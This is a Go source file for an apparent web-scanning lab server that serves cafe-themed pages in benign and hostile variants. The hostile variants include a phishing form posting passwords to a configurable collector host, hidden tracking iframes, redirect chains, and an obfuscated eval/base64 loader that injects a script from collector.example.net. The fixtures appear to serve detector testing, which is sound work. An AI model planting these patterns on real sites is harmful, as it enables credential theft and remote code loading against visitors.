package demoserver

import "strings"

// PageVariant is one rendering of a lab page. A non-zero Status with a
// Location header turns the variant into a server redirect.
type PageVariant struct {
	Summary string
	HTML    string
	Status  int
	Headers map[string]string
}

// PageDefinition holds all variants of a single page. Variant 1 is always the
// benign rendering.
type PageDefinition struct {
	Path        string
	Description string
	Variants    map[int]PageVariant
}

// collectorToken is replaced by the configured collector host.
const collectorToken = "{{collector}}"

// GetAllPages returns all lab page definitions with collector pointing at the
// given foreign host.
func GetAllPages(collector string) []PageDefinition {
	pages := []PageDefinition{
		homePage(),
		loginPage(),
		promoPage(),
		hopPages()[0],
		hopPages()[1],
		latePage(),
		obfuscatedPage(),
	}
	for i := range pages {
		for v, pv := range pages[i].Variants {
			pv.HTML = strings.ReplaceAll(pv.HTML, collectorToken, collector)
			for k, h := range pv.Headers {
				pv.Headers[k] = strings.ReplaceAll(h, collectorToken, collector)
			}
			pages[i].Variants[v] = pv
		}
	}
	return pages
}

func homePage() PageDefinition {
	return PageDefinition{
		Path:        "/",
		Description: "Landing page linking every scenario",
		Variants: map[int]PageVariant{
			1: {
				Summary: "plain landing page",
				HTML: `<!DOCTYPE html>
<html>
<head><title>Cafe Menu</title></head>
<body>
    <h1>Today's menu</h1>
    <ul>
        <li><a href="/login">Members login</a></li>
        <li><a href="/promo">Promotions</a></li>
        <li><a href="/go">Short link</a></li>
        <li><a href="/late">Loyalty card</a></li>
        <li><a href="/coupon">Coupon</a></li>
    </ul>
</body>
</html>`,
			},
		},
	}
}

func loginPage() PageDefinition {
	return PageDefinition{
		Path:        "/login",
		Description: "Login form; variant 2 posts the password to the collector",
		Variants: map[int]PageVariant{
			1: {
				Summary: "same-site login form",
				HTML: `<!DOCTYPE html>
<html>
<head><title>Members login</title></head>
<body>
    <form action="/session" method="POST">
        <input type="text" name="user">
        <input type="password" name="pass">
        <button type="submit">Sign in</button>
    </form>
</body>
</html>`,
			},
			2: {
				Summary: "credential harvest: form action on a foreign host",
				HTML: `<!DOCTYPE html>
<html>
<head><title>Verify your account</title></head>
<body>
    <p>Your session expired. Please sign in again.</p>
    <form action="https://{{collector}}/harvest" method="POST">
        <input type="email" name="email">
        <input type="password" name="pass">
        <button type="submit">Continue</button>
    </form>
</body>
</html>`,
			},
		},
	}
}

func promoPage() PageDefinition {
	return PageDefinition{
		Path:        "/promo",
		Description: "Promotions; variant 2 embeds a hidden foreign frame",
		Variants: map[int]PageVariant{
			1: {
				Summary: "static promotion",
				HTML: `<!DOCTYPE html>
<html>
<head><title>Promotions</title></head>
<body><h1>2 for 1 on Tuesdays</h1></body>
</html>`,
			},
			2: {
				Summary: "hidden iframe to the collector",
				HTML: `<!DOCTYPE html>
<html>
<head><title>Promotions</title></head>
<body>
    <h1>2 for 1 on Tuesdays</h1>
    <iframe src="https://{{collector}}/track" style="display: none"></iframe>
    <iframe src="https://{{collector}}/pixel" width="0" height="0"></iframe>
</body>
</html>`,
			},
		},
	}
}

// hopPages is a two-step server redirect: /go -> /hop -> /login.
func hopPages() []PageDefinition {
	return []PageDefinition{
		{
			Path:        "/go",
			Description: "Short link; variant 2 starts a redirect chain",
			Variants: map[int]PageVariant{
				1: {
					Summary: "single redirect to the landing page",
					Status:  302,
					Headers: map[string]string{"Location": "/"},
				},
				2: {
					Summary: "redirect chain ending at the login page",
					Status:  302,
					Headers: map[string]string{"Location": "/hop"},
				},
			},
		},
		{
			Path:        "/hop",
			Description: "Intermediate hop of the redirect chain",
			Variants: map[int]PageVariant{
				1: {
					Summary: "redirects to the login page",
					Status:  302,
					Headers: map[string]string{"Location": "/login"},
				},
			},
		},
	}
}

func latePage() PageDefinition {
	return PageDefinition{
		Path:        "/late",
		Description: "Loyalty page; variant 2 redirects from script after the load event",
		Variants: map[int]PageVariant{
			1: {
				Summary: "static loyalty page",
				HTML: `<!DOCTYPE html>
<html>
<head><title>Loyalty card</title></head>
<body><p>Collect 10 stamps for a free coffee.</p></body>
</html>`,
			},
			2: {
				Summary: "delayed script redirect to the login page",
				HTML: `<!DOCTYPE html>
<html>
<head><title>Loyalty card</title></head>
<body>
    <p>Loading your card...</p>
    <script>
        window.addEventListener("load", function () {
            setTimeout(function () { window.location.href = "/login"; }, 1500);
        });
    </script>
</body>
</html>`,
			},
		},
	}
}

func obfuscatedPage() PageDefinition {
	return PageDefinition{
		Path:        "/coupon",
		Description: "Coupon page; variant 2 builds and decodes its payload at runtime",
		Variants: map[int]PageVariant{
			1: {
				Summary: "plain coupon",
				HTML: `<!DOCTYPE html>
<html>
<head><title>Coupon</title></head>
<body><p>Show this page at the counter: COFFEE10</p></body>
</html>`,
			},
			2: {
				Summary: "eval of a built string and atob of an HTML payload",
				HTML: `<!DOCTYPE html>
<html>
<head><title>Coupon</title></head>
<body>
    <p id="c">Loading coupon...</p>
    <script>
        var p = ["document.getElementById('c').textContent", " = ", "'COFFEE10'", ";",
                 " var t = new Date().getTime();", " console.log('coupon rendered at ' + t);"];
        eval(p.join(""));
        var b = atob("PHNjcmlwdCBzcmM9Imh0dHBzOi8vY29sbGVjdG9yLmV4YW1wbGUubmV0L2suanMiPjwvc2NyaXB0Pg==");
        document.body.insertAdjacentHTML("beforeend", b);
    </script>
</body>
</html>`,
			},
		},
	}
}
